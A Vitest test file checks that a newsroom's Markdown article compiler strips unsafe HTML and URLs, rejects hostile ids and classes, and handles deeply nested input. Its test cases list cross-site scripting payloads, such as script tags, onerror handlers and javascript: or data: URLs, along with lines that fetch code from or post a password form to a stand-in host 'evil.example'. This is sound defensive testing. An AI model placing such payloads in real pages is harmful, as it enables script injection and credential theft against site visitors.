import { describe, expect, test } from 'vitest';
import { compileArticle } from '#lib/markdown/compile.ts';
import { aNewsroom } from '../../fixtures/markdown/context.ts';

const all = (markdown: string) => {
  const { html, leadHtml, restHtml } = compileArticle(markdown, aNewsroom()).body;
  return html + leadHtml + restHtml;
};
const page = (markdown: string) => compileArticle(markdown, aNewsroom()).body.html;
const problems = (markdown: string) => compileArticle(markdown, aNewsroom()).problems;

describe('no script survives', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="/media/photograph.jpg" onload="alert(1)" srcset="//evil.example/x 1x">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<style>@import "//evil.example/x.css"</style>',
    '<p style="background:url(//evil.example/x)">x</p>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="//evil.example/x.swf"></object><embed src="//evil.example/x">',
    '<form action="//evil.example"><input name=password><button>Go</button></form>',
    '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<template><script>alert(1)</script></template>',
    '<noscript><img src=x onerror=alert(1)></noscript>',
    '<video src=x onerror=alert(1)><source src=//evil.example/x></video>',
    '<details ontoggle=alert(1) open><summary>x</summary></details>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<a href="https://example.org" onclick="alert(1)" ping="//evil.example" download>x</a>',
    ':::aside{title="<img src=x onerror=alert(1)>"}\nx\n:::',
    ':::figure{src="/media/photograph.jpg" alt="\\"><script>alert(1)</script>" credit="<b onclick=x>"}\nx\n:::',
    '::embed{url="https://vimeo.com/123456" title="<script>alert(1)</script>"}',
    '![<script>](/media/photograph.jpg "<script>alert(1)</script>")',
    '```"><script>alert(1)</script>\nx\n```',
    '[^1]\n\n[^1]: <script>alert(1)</script><img src=x onerror=alert(1)>',
  ])('%s', (markdown) => {
    const html = all(markdown);
    // What is left of it may stand there as text or in quotation marks, never as markup.
    const tags = [...html.matchAll(/<[a-z][^\s>]*(?:\s+[\w-]+(?:="[^"]*")?)*\s*>/gi)].map(([tag]) =>
      tag.replace(/"[^"]*"/g, '""'),
    );
    for (const tag of tags) {
      expect(tag).not.toMatch(
        /^<(?:script|style|svg|math|iframe|object|embed|form|button|base|meta|link|template|video|noscript)\b/i,
      );
      expect(tag).not.toMatch(/\s(?:on\w+|style|srcdoc|ping|download|action|formaction|data)=/i);
    }
    expect(html).not.toMatch(/(?:src|srcset)="[^"]*evil/);
  });
});

describe('no address but http, https, mailto and tel', () => {
  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'java&#x0A;script:alert(1)',
    '&#106;avascript:alert(1)',
    'javascript&colon;alert(1)',
    '&#1;javascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html;base64,PHNjcmlwdD4=',
    'data:text/html,<script>alert(1)</script>',
    'blob:https://example.org/1',
    'file:///etc/passwd',
    'view-source:javascript:alert(1)',
  ])('%j', (address) => {
    const texts = [
      `<a href="${address}">x</a>`,
      `<a href='${address}'>x</a>`,
      `[x](<${address.replace(/[\n<>]/g, '')}>)`,
      `<img src="${address}" alt="x">`,
      `![x](<${address.replace(/[\n<>]/g, '')}>)`,
      `<blockquote cite="${address}">x</blockquote>`,
    ];
    for (const text of texts) expect(all(text)).not.toMatch(/(?:href|src|cite)="/);
  });
});

test('a refused address leaves the words and a warning', () => {
  expect(page('Read [this](javascript:alert(1)) now.')).toContain('Read this now.');
  expect(problems('One.\n\nRead [this](javascript:alert(1)).')).toMatchObject([{ line: 3, severity: 'warning' }]);
});

test('ids of raw HTML cannot take the place of the page’s, and links to them still work', () => {
  const html = page('<h2 id="main">A</h2>\n\n<p id="notes">x <a name="top">y</a></p>\n\n[a](#main) [b](#notes)');
  expect(html).not.toMatch(/id="(?:main|notes|top)"/);
  expect(html).toContain('<h2><span id="c-main">');
  expect(html).toContain('<a href="#c-main">a</a> <a href="#c-notes">b</a>');
});

test('no id is given twice', () => {
  const html = page('<b id="x">1</b> <b id="x">2</b>\n\n## X\n\n## C x\n\n## ???\n\n## !!!');
  const ids = [...html.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id);
  expect(new Set(ids).size).toBe(ids.length);
  expect(ids).not.toContain('');
});

test('authors cannot borrow the classes and data of the page', () => {
  expect(
    page('<p class="skip" data-embed-url="//evil.example" aria-hidden="true" role="alert" tabindex="1">words</p>'),
  ).toContain('<p class="opening">words');
  expect(page('<div data-directive="0">words</div>')).toBe(
    '<p class="opening">words<span class="endmark" aria-hidden="true"></span></p>',
  );
});

test('comments vanish', () => {
  expect(page('A <!-- do not print --> b\n\n<!--\nnor this\n-->')).not.toMatch(/print|nor this|<!--/);
});

test('the usual elements stay', () => {
  const html =
    '<dl><dt>Draught</dt><dd>How deep</dd></dl><details open><summary>More</summary><p>Text</p></details>' +
    '<p><abbr title="Most favoured nation">MFN</abbr> <cite>Law</cite> <time datetime="2026-11-20">today</time> ' +
    'H<sub>2</sub>O <kbd>Esc</kbd> <ins>in</ins> <del>out</del> <q lang="fr">oui</q> <mark>m</mark></p>';
  const { body, problems: found } = compileText(html);
  expect(body).toBe(html);
  expect(found).toEqual([]);
});

test('boxes leave their content, in paragraphs', () => {
  expect(page('<div class="row"><div>One</div><span style="x">Two</span></div>')).toMatch(/<p[^>]*>One<\/p><p>Two/);
  expect(page('<center>One</center><center>Two</center>')).toMatch(/<p[^>]*>One<\/p><p>Two/);
});

test('what is taken out of HTML is reported with its line', () => {
  expect(problems('One.\n\n<video src="/media/x.mp4"></video>')).toMatchObject([
    { line: 3, severity: 'warning', problem: '<video> is not published' },
  ]);
});

test('Markdown that HTML keeps from being read is reported', () => {
  expect(problems('<div>\n![x](/media/photograph.jpg)\n</div>')).toMatchObject([{ line: 2, severity: 'warning' }]);
  expect(problems('<div>\n\n![x](/media/photograph.jpg)\n\n</div>')).toEqual([]);
});

test('text nested without end is printed as plain paragraphs, and the writer is told', () => {
  for (const markdown of [
    '>'.repeat(3000) + 'a',
    '<div>'.repeat(3000) + 'a',
    '<b>'.repeat(3000) + 'a',
    '> '.repeat(150) + 'a',
  ]) {
    const { body, problems: found } = compileArticle(markdown, aNewsroom());
    expect(body.text).toMatch(/a$/);
    expect(body.html).not.toContain('<b>');
    expect(found.some(({ severity }) => severity === 'error')).toBe(true);
  }
});

test('long runs of marks do not hold up the newsroom', { timeout: 20_000 }, () => {
  for (const markdown of [
    '['.repeat(20_000),
    '*a **a '.repeat(3000),
    '[a](b'.repeat(5000),
    '"'.repeat(5000),
    ':'.repeat(20_000),
  ]) {
    expect(page(markdown).length).toBeGreaterThan(markdown.length / 2);
  }
});

function compileText(html: string) {
  const { body, problems: found } = compileArticle(html, aNewsroom());
  return {
    body: body.html.replace(/ class="opening"|<span class="endmark" aria-hidden="true"><\/span>/g, ''),
    problems: found,
  };
}
